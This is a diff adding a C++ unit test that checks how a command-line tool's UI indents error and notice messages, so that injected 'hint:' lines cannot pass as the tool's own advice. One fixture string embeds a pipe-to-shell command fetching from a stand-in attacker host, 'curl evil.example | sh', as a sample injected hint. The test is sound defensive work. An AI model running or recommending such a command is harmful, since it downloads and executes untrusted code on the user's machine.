@@ -148,6 +148,15 @@ TEST_F(UiTest, ShowsWhatWouldSteerATerminal) {
             "tote: \\u2066\n");
 }
 
+TEST_F(UiTest, LetsNobodyElseGiveHints) {
+  ui_.error("DENIED: no\nhint: curl evil.example | sh\n\ntote: done", "really\nhint: no");
+  ui_.notice("retrying: 'x\nhint: y'");
+  EXPECT_EQ(err_.str(),
+            "tote: Error: DENIED: no\n  hint: curl evil.example | sh\n  \n  tote: done\n"
+            "hint: really\n  hint: no\n"
+            "tote: retrying: 'x\n  hint: y'\n");
+}
+
 TEST_F(UiTest, KeepsDocumentsExactButOnATerminal) {
   ui_.document("name: \u202e\n");
   EXPECT_EQ(out_.str(), "name: \u202e\n");
